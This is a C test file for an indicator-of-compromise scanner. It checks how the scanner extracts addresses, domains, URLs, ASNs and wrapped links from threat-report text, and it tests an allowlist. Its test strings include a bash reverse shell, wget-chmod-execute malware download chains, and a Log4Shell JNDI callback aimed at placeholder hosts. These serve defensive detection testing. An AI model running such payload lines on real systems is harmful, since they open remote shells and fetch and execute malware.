	    "email abuse@evil.com public\nemail a@b.evil.top public\n");
	/* scp's and git's "user@host:path" is a login: its host */
	expect("git@github.com:org/repo.git root@198.51.100.7:/tmp/x "
	    "me@evil.net:~/a",
	    "domain github.com public\n"
	    "ipv4 198.51.100.7 documentation\n"
	    "domain evil.net public\n");
	/* a login at an address, as sshd logs it: the address (no
	 * mailbox is written so); a name's digits are no address */
	expect("Failed password for root@198.51.100.8 port 22; "
	    "admin@198.51.100.9:2222 x@1.2 y@198.51.100.10.evil.com",
	    "ipv4 198.51.100.8 documentation\n"
	    "ipv4 198.51.100.9 documentation\n"
	    "email y@198.51.100.10.evil.com public\n");
	/* at an IPv6 address too; a leaked list's "mail:password" whose
	 * domain looks like hex stays no address */
	expect("Accepted publickey for admin@2001:db8::5 port 22; "
	    "deploy@2001:db8:0:0:0:0:0:6. git@fd00::7 bob@cafe.com:dead::beef "
	    "a@dead:beef:cafe",
	    "ipv6 2001:db8::5 documentation\n"
	    "ipv6 2001:db8::6 documentation\n"
	    "ipv6 fd00::7 private\n"
	    "email bob@cafe.com public\n");
	expect("ASN:4134 AS:4808 ASN:x AS:",
	    "asn AS4134 public\nasn AS4808 public\n");
	/* a report's "ASN: " key, one blank; a sentence's or a key's end
	 * after the number */
	expect("ASN: 4134, AS13335. AS15169: Google; AS4134.x ASN:  4134 "
	    "AS: 4808 ASN: 4134x",
	    "asn AS4134 public\nasn AS13335 public\nasn AS15169 public\n");
	/* RFC 5396's asdot; dotted digits past it are an address, and
	 * read as one, not as "AS8" and the rest */
	expect("AS1.10 ASN 1.10, ASN:0.65535 AS65536.1 AS1.65536",
	    "asn AS65546 documentation\nasn AS65546 documentation\n"
	    "asn AS65535 reserved\n");
	expect("ASN 8.8.8.8; AS 198.51.100.7. AS1.2.3",
	    "ipv4 8.8.8.8 public\nipv4 198.51.100.7 documentation\n");
	/* the number is the AS's; what follows it is read on its own,
	 * as a token (a scan reads "ASN" before the token after it) */
	expect("ASN 4134-evil.com",
	    "asn AS4134 public\ndomain evil.com public\n");
	/* what a colon does not split: IPv6, a time, a URL */
	expect("dead:beef::1 fe80:0:0:0::1 10:30 url:http://evil.com/x",
	    "ipv6 dead:beef::1 reserved\nipv6 fe80::1 link-local\n"
	    "url http://evil.com/x public\ndomain evil.com public\n");
	/* '=' in an address's local part (VERP, SRS) is no separator */
	expect("list-bounces+alice=example.com@lists.example.org",
	    "email list-bounces+alice=example.com@lists.example.org "
	    "documentation\n");
	expect("SRS0=HH=TT=example.net=bob@fw.example.com from=c@example.org",
	    "email SRS0=HH=TT=example.net=bob@fw.example.com documentation\n"
	    "email c@example.org documentation\n");
	expect("q+a=evil.com SRS0=evil.org",
	    "domain evil.com public\ndomain evil.org public\n");
	/* SRS1 (a forwarder's forward), any case; "SXS0" is a key */
	expect("srs1=HH=TT=fw.example.com=bob@fw2.example.org "
	    "SXS0=ab=evil.com@mail.example.org",
	    "email srs1=HH=TT=fw.example.com=bob@fw2.example.org "
	    "documentation\n"
	    "email evil.com@mail.example.org documentation\n");
	/* a blank before the scheme's "://" defangs it: the host */
	expect("http ://evil.com/z hxxp ://198.51.100.7/x",
	    "domain evil.com public\nipv4 198.51.100.7 documentation\n");
	/* a URL's query keeps its '=' */
	expect("http://evil.com/a?b=c&d=e.f",
	    "url http://evil.com/a?b=c&d=e.f public\n"
	    "domain evil.com public\n");
	/* a URL in a CSV row's field ends at the next separator; one
	 * before another URL ends there; a path's or query's own stay */
	expect("1,http://a.com/x.php,,2026-11-22,CN\n"
	    "2;http://b.com/y;CN\n",
	    "url http://a.com/x.php public\ndomain a.com public\n"
	    "url http://b.com/y public\ndomain b.com public\n");
	expect("http://c.com/x,http://d.com/y;https://e.com/z,ftp://f.com/",
	    "url http://c.com/x public\ndomain c.com public\n"
	    "url http://d.com/y public\ndomain d.com public\n"
	    "url https://e.com/z public\ndomain e.com public\n"
	    "url ftp://f.com/ public\ndomain f.com public\n");
	expect("\"http://g.com/?ids=1,2\" http://h.com/a;sid=1,b "
	    "x;http://i.com/a,b",
	    "url http://g.com/?ids=1,2 public\ndomain g.com public\n"
	    "url http://h.com/a;sid=1,b public\ndomain h.com public\n"
	    "url http://i.com/a,b public\ndomain i.com public\n");
	/* a reverse shell's bash network path: its host (session 35:
	 * none) */
	expect("bash -i >& /dev/tcp/198.51.100.55/4444 0>&1; exec "
	    "196<>/dev/tcp/c2.evil.com/443; /dev/udp/203.0.113.9/53 "
	    "/dev/tcpx/198.51.100.56/1",
	    "ipv4 198.51.100.55 documentation\n"
	    "domain c2.evil.com public\n"
	    "ipv4 203.0.113.9 documentation\n");
	/* an exploit's download line in an encoded request: the URL ends
	 * where the shell's next command starts (a word and an encoded
	 * blank, or a path); a path's parameters and a query's stay.
	 * Before, "http://j.com/arm7;chmod%20777%20arm7;./arm7" whole. */
	expect("wget%20http://j.com/arm7;chmod%20777%20arm7;./arm7) "
	    "wget+http://k.com:8088/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws "
	    "http://l.com/a;./b http://m.com/a;b/c http://n.com/a;b=c+d "
	    "http://o.com/s?q=a;chmod+1 wget${IFS}http://p.com/x.sh;"
	    "sh${IFS}x.sh",
	    "url http://j.com/arm7 public\ndomain j.com public\n"
	    "url http://k.com:8088/Mozi.a public\ndomain k.com public\n"
	    "url http://l.com/a public\ndomain l.com public\n"
	    "url http://m.com/a;b/c public\ndomain m.com public\n"
	    "url http://n.com/a;b=c+d public\ndomain n.com public\n"
	    "url http://o.com/s?q=a;chmod+1 public\ndomain o.com public\n"
	    "url http://p.com/x.sh public\ndomain p.com public\n");
	/* ... and where the command's options start: an encoded blank,
	 * '-' and one or two letters; a path's "++-" and "+-+" stay, and
	 * a query's */
	expect("wget+http://q.com:8088/Mozi.m+-O+/tmp/netgear "
	    "wget%20http://r.com/x%20-qO-%20 http://s.com/c++-tutorial "
	    "http://t.com/a+-+b http://u.com/q?x=a+-O+b",
	    "url http://q.com:8088/Mozi.m public\ndomain q.com public\n"
	    "url http://r.com/x public\ndomain r.com public\n"
	    "url http://s.com/c++-tutorial public\ndomain s.com public\n"
	    "url http://t.com/a+-+b public\ndomain t.com public\n"
	    "url http://u.com/q?x=a+-O+b public\ndomain u.com public\n");
	/* ... an encoded blank after the ';' too, and a shell's variable
	 * for a blank (before, ";+chmod+777+mips;+./mips" and "mips$"
	 * stayed on) */
	expect("$(cd+/tmp;+wget+http://v.com/bins/mips;+chmod+777+mips;"
	    "+./mips+tplink) wget${IFS}http://w.com/mips${IFS}-O${IFS}m "
	    "wget$IFS$9http://x.com/a.sh$IFS$9-O http://y.com/a;+b=c",
	    "url http://v.com/bins/mips public\ndomain v.com public\n"
	    "url http://w.com/mips public\ndomain w.com public\n"
	    "url http://x.com/a.sh public\ndomain x.com public\n"
	    "url http://y.com/a;+b=c public\ndomain y.com public\n");
}

/* A host behind a scheme that is no web URL is an indicator all the
 * same: a Log4Shell probe's callback, a share, a key server. */
static void
test_other_schemes(void **state)
{
	(void)state;
	/* a bracketed scheme: the URL, defanged */
	expect("[h]ttp://evil.com/a (https)://evil.net/b",
	    "url http://evil.com/a public defanged\n"
	    "domain evil.com public\n"
	    "url https://evil.net/b public defanged\n"
	    "domain evil.net public\n");
	expect("${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/x}",
	    "ipv4 45.155.205.233 public\n");
	expect("${jndi:rmi://c2.evil.com:1099/o} ldap://[2001:db8::5]:389/",
	    "domain c2.evil.com public\nipv6 2001:db8::5 documentation\n");
	/* the user and password are no address */
	expect("ssh://root:toor@203.0.113.77:22 imap://u%40a.org@mx.b.org/",
	    "ipv4 203.0.113.77 documentation\ndomain mx.b.org public\n");
	/* a YARA or Sigma rule's pattern: its host (it gave nothing) */
	expect("$a = /https?:\\/\\/evil\\.com\\/gate\\.php/ "
	    "\"https?://198.51.100.48/x\"",
	    "domain evil.com public defanged\n"
	    "ipv4 198.51.100.48 documentation\n");
	/* a web URL that try_url did not take gives no host either; nor
	 * does an app's scheme, with a '-' or a '.' (its "host" is a
	 * package's or an extension's name) */
	expect("http://evil.co=\nm/x android-app://com.example.app/x "
	    "file:///etc/hosts android-app://evil.example.com/x "
	    "x.y://evil.example.com 5ocks://198.51.100.17", "");
	/* digits and '+' in the scheme: a proxy, a mining pool, git */
	expect("socks5://198.51.100.16:1080 stratum+tcp://pool.evil.com:3333 "
	    "git+ssh://git@git.evil.net/x.git",
	    "ipv4 198.51.100.16 documentation\n"
	    "domain pool.evil.com public\ndomain git.evil.net public\n");
	/* a scheme of one letter, what is left of a defanged one
	 * ("ht[tp]s://" gave nothing at all); a drive's path no name */
	/* a scheme without its colon: the host (each gave nothing) */
	expect("http//evil-c.com/a hXXps//evil-d.com FTP//198.51.100.19/x "
	    "fxp//evil-e.com http// httpx//evil-f.com hxtp//evil-g.com "
	    "httx//evil-h.com ftz//evil-i.com http/evil-j.com",
	    "domain evil-c.com public\ndomain evil-d.com public\n"
	    "ipv4 198.51.100.19 documentation\ndomain evil-e.com public\n");
	expect("ht[tp]s://evil-a.com/x p://evil-b.com/x C://Users/x "
	    "s://198.51.100.18/x",
	    "domain evil-a.com public\ndomain evil-b.com public\n"
	    "ipv4 198.51.100.18 documentation\n");
}

/* A URL in angle brackets broken across lines (RFC 3986, appendix C) is
 * read whole, and is not said to be defanged for it; what is not such a
 * URL keeps its line breaks. */
static void
test_folded_urls(void **state)
{
	char text[8192], *p;
	size_t i;

	(void)state;
	expect("see <https://evil.com/very/long/path/\n   that/goes/on.php?"
	    "id=1> now",
	    "url https://evil.com/very/long/path/that/goes/on.php?id=1 public\n"
	    "domain evil.com public\n");
	/* shorter than next_rule's 18 bytes */
	expect("<http://e.co/\n x>",
	    "url http://e.co/x public\ndomain e.co public\n");
	/* inside the host, CRLF and tabs, three lines */
	expect("<http://foo.exam\r\n\tple.com/rfc/\r\n \t x/\n y.html>",
	    "url http://foo.example.com/rfc/x/y.html documentation\n"
	    "domain foo.example.com documentation\n");
	expect("<hxxps://bad[.]com/a/\n b.php>",
	    "url https://bad.com/a/b.php public defanged\n"
	    "domain bad.com public defanged\n");
	/* a reply's quote marks on the lines it goes on to */
	expect("> see <https://q.evil.net/a/\n>   b/c.html>\n"
	    ">> <https://q2.evil.net/a/\n> > b/c.html>\n"
	    "> > <https://q4.evil.net/a/\n> > b.html>",
	    "url https://q.evil.net/a/b/c.html public\n"
	    "domain q.evil.net public\n"
	    "url https://q2.evil.net/a/b/c.html public\n"
	    "domain q2.evil.net public\n"
	    "url https://q4.evil.net/a/b.html public\n"
	    "domain q4.evil.net public\n");
	/* fewer quote marks, a blank line, a blank within a line, no '>',
	 * a '<' or '"' before it: each keeps its breaks */
	expect("> <https://q3.evil.net/a/\n b.html>\n"
	    "<https://e1.evil.org/x\n\n y>\n"
	    "<https://e2.evil.org/x is\n bad>\n"
	    "<https://e3.evil.org/x\n y\n"
	    "<https://e4.evil.org/x\n <b>\n"
	    "<https://e5.evil.org/x\n y\">\n",
	    "url https://q3.evil.net/a/ public\n"
	    "domain q3.evil.net public\n"
	    "url https://e1.evil.org/x public\ndomain e1.evil.org public\n"
	    "url https://e2.evil.org/x public\ndomain e2.evil.org public\n"
	    "url https://e3.evil.org/x public\ndomain e3.evil.org public\n"
	    "url https://e4.evil.org/x public\ndomain e4.evil.org public\n"
	    "url https://e5.evil.org/x public\ndomain e5.evil.org public\n");
	/* no "//" after the scheme; a break before the '>' only */
	expect("<http:evil.\n com/x> <hello/world\n evil.com> "
	    "<hhhhhhhhhhhhhhhhhhhh//x\n evil.net> <hi\nthere//x\n evil.org> "
	    "<https://e6.evil.org/x\n>",
	    "domain evil.com public\ndomain evil.net public\n"
	    "domain evil.org public\n"
	    "url https://e6.evil.org/x public\ndomain e6.evil.org public\n");
	/* a URL longer than FOLD_SPAN (4096) bytes keeps its breaks */
	p = text;
	p += sprintf(p, "<https://long.evil.com/");
	for (i = 0; i < 4096; i++)
		*p++ = 'a';
	p += sprintf(p, "\n x>");
	assert_non_null(p = scan(text));
	assert_non_null(strstr(p, "aaaa public\n"));
	assert_null(strstr(p, "aaax"));
	free(p);
	/* ioc_fold_cut: the start of the line of an open '<https:' */
	assert_int_equal(ioc_fold_cut("a\nb <https://x/\n", 17), 2);
	assert_int_equal(ioc_fold_cut("a\nb <https://x/>\n", 18), 18);
	assert_int_equal(ioc_fold_cut("<https://x/\n", 12), 12);
	assert_int_equal(ioc_fold_cut("a\nb <b\n", 7), 7);
}

/* A link a mail filter wrapped: the wrapper as written, then the link it
 * wraps (the report's indicator), decoded; one level deep. */
static void
test_wrapped_links(void **state)
{
	(void)state;
	expect("https://nam02.safelinks.protection.outlook.com/?url=https%3A"
	    "%2F%2Fevil.com%2Fa%3Fb%3D1&data=05%7C01",
	    "url https://nam02.safelinks.protection.outlook.com/?url=https%3A"
	    "%2F%2Fevil.com%2Fa%3Fb%3D1&data=05%7C01 public\n"
	    "domain nam02.safelinks.protection.outlook.com public\n"
	    "url https://evil.com/a?b=1 public\ndomain evil.com public\n");
	expect("https://urldefense.proofpoint.com/v2/url?u=http-3A__pp.com_a"
	    "&d=x https://urldefense.com/v3/__https://pp3.net/x__;!!A$ "
	    "https://www.google.com/url?q=https://g.org/p&sa=D",
	    "url https://urldefense.proofpoint.com/v2/url?u=http-3A__pp.com_a"
	    "&d=x public\ndomain urldefense.proofpoint.com public\n"
	    "url https://urldefense.com/v3/__https://pp3.net/x__;!!A$ public\n"
	    "domain urldefense.com public\n"
	    "url https://www.google.com/url?q=https://g.org/p&sa=D public\n"
	    "domain www.google.com public\n"
	    "url http://pp.com/a public\ndomain pp.com public\n"
	    "url https://pp3.net/x public\ndomain pp3.net public\n"
	    "url https://g.org/p public\ndomain g.org public\n");
	/* wrapped twice: a Proofpoint link through SafeLinks */
	expect("https://eur01.safelinks.protection.outlook.com/?url=https%3A"
	    "%2F%2Furldefense.proofpoint.com%2Fv2%2Furl%3Fu%3Dhttp-3A__deep"
	    ".com_a%26d%3Dx&data=05",
	    "url https://eur01.safelinks.protection.outlook.com/?url=https%3A"
	    "%2F%2Furldefense.proofpoint.com%2Fv2%2Furl%3Fu%3Dhttp-3A__deep"
	    ".com_a%26d%3Dx&data=05 public\n"
	    "domain eur01.safelinks.protection.outlook.com public\n"
	    "url https://urldefense.proofpoint.com/v2/url?u=http-3A__deep"
	    ".com_a&d=x public\n"
	    "domain urldefense.proofpoint.com public\n"
	    "url http://deep.com/a public\ndomain deep.com public\n");
	/* not wrappers, a search and a SafeLinks look-alike, but links
	 * that name others, as any link may (nested_link): a parameter's
	 * value percent-decoded, a link written whole as it is */
	expect("https://www.google.com/search?q=https://a.com "
	    "https://safelinks.protection.outlook.com.evil.com/?url=https%3A"
	    "%2F%2Fb.com",
	    "url https://www.google.com/search?q=https://a.com public\n"
	    "domain www.google.com public\n"
	    "url https://safelinks.protection.outlook.com.evil.com/?url=https"
	    "%3A%2F%2Fb.com public\n"
	    "domain safelinks.protection.outlook.com.evil.com public\n"
	    "url https://a.com public\ndomain a.com public\n"
	    "url https://b.com public\ndomain b.com public\n");
}

/* A link that names another, where a redirect, a tracker or an archive
 * does: the other is an indicator too (a phishing mail's open redirect
 * names its real target so). Before, only the outer link's host was. */
static void
test_nested_links(void **state)
{
	(void)state;
	expect("https://evil.com/go?next=https://phish.top/x%20y",
	    "url https://evil.com/go?next=https://phish.top/x%20y public\n"
	    "domain evil.com public\n"
	    "url https://phish.top/x%20y public\n"
	    "domain phish.top public\n");
	expect("https://t.example.com/c?u=https%3A%2F%2Fphish.top%2Fp"
	    "%3Fa%3D1&b=2",
	    "url https://t.example.com/c?u=https%3A%2F%2Fphish.top%2Fp"
	    "%3Fa%3D1&b=2 documentation\n"
	    "domain t.example.com documentation\n"
	    "url https://phish.top/p?a=1 public\n"
	    "domain phish.top public\n");
	expect("https://web.archive.org/web/2024/http://phish.top/",
	    "url https://web.archive.org/web/2024/http://phish.top/ "
	    "public\n"
	    "domain web.archive.org public\n"
	    "url http://phish.top/ public\n"
	    "domain phish.top public\n");
	/* three levels at most, as wrappers */
	expect("http://a.com/?x=http://b.com/?y=http://c.com/?z=http://d.com/"
	    "?w=http://e.com/",
	    "url http://a.com/?x=http://b.com/?y=http://c.com/?z=http://d.com/"
	    "?w=http://e.com/ public\n"
	    "domain a.com public\n"
	    "url http://b.com/?y=http://c.com/?z=http://d.com/?w=http://e.com/"
	    " public\n"
	    "domain b.com public\n"
	    "url http://c.com/?z=http://d.com/?w=http://e.com/ public\n"
	    "domain c.com public\n"
	    "url http://d.com/?w=http://e.com/ public\n"
	    "domain d.com public\n");
	/* a word that starts so, no link: "?q=https", "/httpd/"; a link
	 * starts a value or a path's segment, not inside a word */
	expect("https://a.com/s?q=https&r=http%3A https://b.com/httpd/x "
	    "https://c.com/?q=xhttp://d.com",
	    "url https://a.com/s?q=https&r=http%3A public\n"
	    "domain a.com public\n"
	    "url https://b.com/httpd/x public\n"
	    "domain b.com public\n"
	    "url https://c.com/?q=xhttp://d.com public\n"
	    "domain c.com public\n");
	/* a link percent-encoded outside any URL (a logged request's
	 * parameter): decoded and read, each time it is written; a '%'
	 * without one is nothing. Before, nothing at all. */
	expect("cmd=wget%20http%3A%2F%2F198.51.100.9%2Fbins%2Fx86%20-O%20-"
	    "%7Csh x=hxxps%3a%2f%2fevil%5B.%5Dcom%2Flogin%3Fa%3D1 "
	    "cmd=wget%20http%3A%2F%2F198.51.100.9%2Fbins%2Fx86%20-O%20-%7Csh "
	    "evil.net%2Fx%20100%25.com",
	    "url http://198.51.100.9/bins/x86 documentation\n"
	    "ipv4 198.51.100.9 documentation\n"
	    "url https://evil.com/login?a=1 public defanged\n"
	    "domain evil.com public defanged\n"
	    "url http://198.51.100.9/bins/x86 documentation\n"
	    "ipv4 198.51.100.9 documentation\n");
}

static void
test_context_makes_hosts(void **state)
{
	(void)state;
	/* Only a whole word ("ver", "version", "build", "firmware"...)
	 * makes a version number. */
	expect("resolver 9.9.9.9", "ipv4 9.9.9.9 public\n");
	expect("resolver=9.9.9.9 v 8.8.8.8",
	    "ipv4 9.9.9.9 public\nipv4 8.8.8.8 public\n");
	expect("chromes 9.9.9.9 operas 8.8.8.8", "ipv4 9.9.9.9 public\n"
	    "ipv4 8.8.8.8 public\n");
	/* a word ending in a numbering word lists addresses ("IP list",
	 * "topology map"); so does the word as a key */
	/* "以上" alone is "the above", not "and above"; "至" between two
	 * addresses a range of them, not of versions */
	expect("主机 10.10.10.10 以上均被控制，8.8.4.4 以上IP，"
	    "攻击源 1.2.3.4 至 1.2.3.9",
	    "ipv4 10.10.10.10 private\nipv4 8.8.4.4 public\n"
	    "cidr 1.2.3.4/30 public\ncidr 1.2.3.8/31 public\n");
	expect("恶意IP列表 198.51.100.7 拓扑图 198.51.100.8 表：198.51.100.9"
	    "，IP列表 198.51.100.10 代表 198.51.100.11",
	    "ipv4 198.51.100.7 documentation\n"
	    "ipv4 198.51.100.8 documentation\n"
	    "ipv4 198.51.100.9 documentation\n"
	    "ipv4 198.51.100.10 documentation\n"
	    "ipv4 198.51.100.11 documentation\n");
	expect("rebuild 9.9.9.9 firmwares 8.8.8.8 DHCP release 1.1.1.1",
	    "ipv4 9.9.9.9 public\nipv4 8.8.8.8 public\n"
	    "ipv4 1.1.1.1 public\n");
	/* a numbering word as a key names what follows: an address */
	expect("ARP table: 192.0.2.1, Section=192.0.2.2",
	    "ipv4 192.0.2.1 documentation\nipv4 192.0.2.2 documentation\n");
	expect("intersection 9.9.9.9 stable 8.8.8.8 void 1.1.1.1 "
	    "\u00a8 8.8.4.4 \u00c7 1.0.0.1",
	    "ipv4 9.9.9.9 public\nipv4 8.8.8.8 public\n"
	    "ipv4 1.1.1.1 public\nipv4 8.8.4.4 public\n"
	    "ipv4 1.0.0.1 public\n");
	/* A name that starts with an address is a name (a wildcard DNS
	 * service's, a DNS blocklist's query, a Received: field's host
	 * in ../shared/corpus/kde-mimetreeparser, whose 242.13.24.31 is
	 * reserved space: the octets run the other way round); a PTR
	 * name gives the address it stands for; after an address a word
	 * that makes no name leaves the address. */
	expect("198.51.100.7.nip.io 4.3.2.1.zen.spamhaus.org "
	    "242.13.24.31.ftth.as8758.net",
	    "domain 198.51.100.7.nip.io public\n"
	    "domain 4.3.2.1.zen.spamhaus.org public\n"
	    "domain 242.13.24.31.ftth.as8758.net public\n");
	expect("PTR 7.100.51.198.in-addr.arpa. 9.100.51.198.IN-ADDR.ARPA",
	    "ipv4 198.51.100.7 documentation\n"
	    "ipv4 198.51.100.9 documentation\n");
	expect("from 198.51.100.8.The attacker, 1.2.3.4.5",
	    "ipv4 198.51.100.8 documentation\n");
	/* a reverse zone: its network (a registry's "domain:" object, a
	 * resolver's log); ip6.arpa's nibbles, 32 an address; what names
	 * no network stays a name, reserved (never notified) */
	expect("domain: 100.51.198.in-addr.arpa 10.in-addr.arpa. "
	    "0.168.192.IN-ADDR.ARPA 7.0.0.127.in-addr.arpa",
	    "cidr 198.51.100.0/24 documentation\n"
	    "cidr 10.0.0.0/8 private\ncidr 192.168.0.0/24 private\n"
	    "ipv4 127.0.0.7 loopback\n");
	expect("b.a.9.8.7.6.5.0.4.0.0.0.3.0.0.0.2.0.0.0.1.0.0.0."
	    "8.b.d.0.1.0.0.2.ip6.arpa 8.b.d.0.1.0.0.2.ip6.arpa "
	    "3.0.2.ip6.arpa F.ip6.arpa "
	    "a.9.8.7.6.5.0.4.0.0.0.3.0.0.0.2.0.0.0.1.0.0.0."
	    "8.b.d.0.1.0.0.2.ip6.arpa",
	    "ipv6 2001:db8:1:2:3:4:567:89ab documentation\n"
	    "cidr 2001:db8::/32 documentation\n"
	    "cidr 2030::/12 public\ncidr f000::/4 reserved\n"
	    "cidr 2001:db8:1:2:3:4:567:89a0/124 documentation\n");
	expect("0-25.100.51.198.in-addr.arpa 256.51.198.in-addr.arpa "
	    "01.51.198.in-addr.arpa 1.2.3.4.5.in-addr.arpa x.ip6.arpa "
	    "10.b.d.0.ip6.arpa a.bc.ip6.arpa 1-2.198.in-addr.arpa "
	    "10in-addr.arpa "
	    "0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0."
	    "ip6.arpa 4.3.2.1.e164.arpa",
	    "domain 0-25.100.51.198.in-addr.arpa reserved\n"
	    "domain 256.51.198.in-addr.arpa reserved\n"
	    "domain 01.51.198.in-addr.arpa reserved\n"
	    "domain 1.2.3.4.5.in-addr.arpa reserved\n"
	    "domain x.ip6.arpa reserved\n"
	    "domain 10.b.d.0.ip6.arpa reserved\n"
	    "domain a.bc.ip6.arpa reserved\n"
	    "domain 1-2.198.in-addr.arpa reserved\n"
	    "domain 10in-addr.arpa public\n"
	    "domain 0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0."
	    "0.0.0.0.ip6.arpa reserved\n"
	    "domain 4.3.2.1.e164.arpa public\n");
	/* an address with a colon after it, "identifier" alone or glued:
	 * no OID */
	expect("host 2.5.29.37: down, Flags: 2.5.29.38: Flags, identifier "
	    "2.5.4.5, objectidentifier 2.5.4.6",
	    "ipv4 2.5.29.37 public\nipv4 2.5.29.38 public\n"
	    "ipv4 2.5.4.5 public\nipv4 2.5.4.6 public\n");
	/* "identifier" first in the text: nothing before it is read */
	expect("identifier 2.5.4.7", "ipv4 2.5.4.7 public\n");
	/* A Received: field in ../shared/corpus/stalwart-mail-parser/
	 * received.json: the server's version is no address. */
	expect("from [127.0.0.1] by euphoria (ArGoSoft Mail Server "
	    "Freeware, Version 1.8 (1.8.2.5)); Sat, 8 Feb 2003 09:45:32",
	    "ipv4 127.0.0.1 loopback\n");
	/* In parentheses, an address after an address, a word or a
	 * number that follows no version word. */
	expect("client 8.8.8.8 (9.9.9.9) host (1.1.1.1) seen 2.2 (8.8.4.4) "
	    "build server7 (1.0.0.1)",
	    "ipv4 8.8.8.8 public\nipv4 9.9.9.9 public\n"
	    "ipv4 1.1.1.1 public\nipv4 8.8.4.4 public\n"
	    "ipv4 1.0.0.1 public\n");
	/* A file-like suffix is a host when the text says so. */
	expect("evil[.]zip", "domain evil.zip public defanged\n");
	expect("http://evil.zip/x",
	    "url http://evil.zip/x public\ndomain evil.zip public\n");
	expect("www.evil.sh", "domain www.evil.sh public\n");
}

static int
stop_first(const struct ioc *ioc, void *arg)
{
	(void)ioc;
	(*(int *)arg)++;
	return 7;
}

static void
test_offsets_and_stop(void **state)
{
	const char *text = "x hxxp://a[.]example.com/ 192.0.2.1";
	struct ioc_scanner *sc = ioc_scanner_new();
	int calls = 0;

	(void)state;
	assert_int_equal(ioc_scan(sc, text, strlen(text), 0, stop_first,
	    &calls), 7);
	assert_int_equal(calls, 1);
	ioc_scanner_free(sc);
}

static int
allowed_one(const struct ioc *ioc, void *arg)
{
	const struct ioc_allowlist *al = ((void **)arg)[0];
	struct buf *out = ((void **)arg)[1];

	buf_addf(out, "%s%s ", ioc->value, ioc_allowed(al, ioc) ? "+" : "-");
	return 0;
}

/* A list of thousands, as an allowlist_file of a constituency's
 * networks and its partners' domains is: each kind of entry found
 * among them, at every prefix length, and only where it applies. */
static void
test_allowlist_large(void **state)
{
	struct ioc_allowlist *al = ioc_allowlist_new();
	struct ioc_scanner *sc = ioc_scanner_new();
	struct buf out = BUF_INIT, entry = BUF_INIT;
	void *arg[2] = { al, &out };
	const char *text = "n0.cn n2999.cn www.N1500.CN xn1500.cn "
	    "n1500.cn.evil.org 10.7.200.1 10.3.0.0/15 "
	    "10.3.0.0/17 172.20.0.1 172.32.0.1 192.0.2.77 192.0.2.78 "
	    "2001:db8:1f2:9::1 2001:db8:1f3::1 198.51.100.130 "
	    "198.51.100.127 AS64512 AS64513 "
	    "d41d8cd98f00b204e9800998ecf8427e http://xn--bcher-kva.cn/ "
	    "CVE-2024-1234 CVE-2024-1235";
	int i;

	(void)state;
	for (i = 0; i < 3000; i++) {
		buf_reset(&entry);
		buf_addf(&entry, "n%d.cn", i);
		assert_int_equal(ioc_allowlist_add(al, entry.data), 0);
		buf_reset(&entry);
		buf_addf(&entry, "10.%d.0.0/16", i % 256);
		assert_int_equal(ioc_allowlist_add(al, entry.data), 0);
		buf_reset(&entry);
		buf_addf(&entry, "2001:db8:%x::/48", 0x100 + i % 0xf3);
		assert_int_equal(ioc_allowlist_add(al, entry.data), 0);
		if (i == 1000) {	/* host bits set: the network counts */
			assert_int_equal(ioc_allowlist_add(al,
			    "172.16.5.9/12"), 0);
			assert_int_equal(ioc_allowlist_add(al,
			    "192.0.2.77"), 0);
			assert_int_equal(ioc_allowlist_add(al,
			    "198.51.100.128/25"), 0);
			assert_int_equal(ioc_allowlist_add(al, "AS 64512"), 0);
			assert_int_equal(ioc_allowlist_add(al,
			    "D41D8CD98F00B204E9800998ECF8427E"), 0);
			assert_int_equal(ioc_allowlist_add(al,
			    "cve-2024-1234"), 0);
			assert_int_equal(ioc_allowlist_add(al,
			    "b\xc3\xbc" "cher.cn"), 0);
		}
	}
	ioc_scan(sc, text, strlen(text), 0, allowed_one, arg);
	assert_string_equal(out.data, "n0.cn+ n2999.cn+ www.n1500.cn+ "
	    "xn1500.cn- n1500.cn.evil.org- "
	    "10.7.200.1+ 10.3.0.0/15- 10.3.0.0/17+ 172.20.0.1+ "
	    "172.32.0.1- 192.0.2.77+ 192.0.2.78- 2001:db8:1f2:9::1+ "
	    "2001:db8:1f3::1- 198.51.100.130+ 198.51.100.127- AS64512+ "
	    "AS64513- d41d8cd98f00b204e9800998ecf8427e+ "
	    "http://xn--bcher-kva.cn/+ xn--bcher-kva.cn+ "
	    "CVE-2024-1234+ CVE-2024-1235- ");
	buf_release(&out);
	buf_release(&entry);
	ioc_scanner_free(sc);
	ioc_allowlist_free(al);
}

static void
test_allowlist(void **state)
{
	struct ioc_allowlist *al = ioc_allowlist_new();
	struct ioc_scanner *sc = ioc_scanner_new();
	struct buf out = BUF_INIT;
	void *arg[2] = { al, &out };
	const char *text = "8.8.8.8 8.8.4.4 10.1.2.3 10.0.0.0/8 172.16.0.0/12 "
	    "www.partner.com evilpartner.com partner.com.evil.org "
	    "x@mail.partner.com http://u@partner.com/x AS15169 AS4134 "
	    "2001:db8::1 2001:db8::ab http://[2001:db8::2]:80/ "
	    "http://[2001:db8::cd]/ ::ffff:8.8.8.8 64:ff9b::808:808 "
	    "64:ff9b:1::808:808 ::ffff:8.8.4.4 http://[64:ff9b::a01:203]/ "
	    "2002:808:808::1 2002:808:404::1 "
	    "d41d8cd98f00b204e9800998ecf8427e 0cc175b9c0f1b6a831c399e269772661 "
	    "cve-2021-44228 CVE-2021-44229 "
	    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";

	(void)state;
	/* exact values: hashes (the empty file's), a CVE id */
	assert_int_equal(ioc_allowlist_add(al,
	    "D41D8CD98F00B204E9800998ECF8427E"), 0);
	assert_int_equal(ioc_allowlist_add(al, "e3b0c44298fc1c149afbf4c8996fb9"
	    "2427ae41e4649b934ca495991b7852b855"), 0);
	assert_int_equal(ioc_allowlist_add(al, "CVE-2021-44228"), 0);
	assert_int_equal(ioc_allowlist_add(al, "8.8.8.8"), 0);
	assert_int_equal(ioc_allowlist_add(al, "10.0.0.0/8"), 0);
	assert_int_equal(ioc_allowlist_add(al, "partner.com"), 0);
	assert_int_equal(ioc_allowlist_add(al, "ASN 15169") , 0);
	assert_int_equal(ioc_allowlist_add(al, "2001:db8::/32"), 0);
	assert_int_equal(ioc_allowlist_add(al, "10.0.0.0/33"), -1);
	assert_int_equal(ioc_allowlist_add(al, "300.1.1.1"), -1);
	assert_int_equal(ioc_allowlist_add(al, ""), -1);
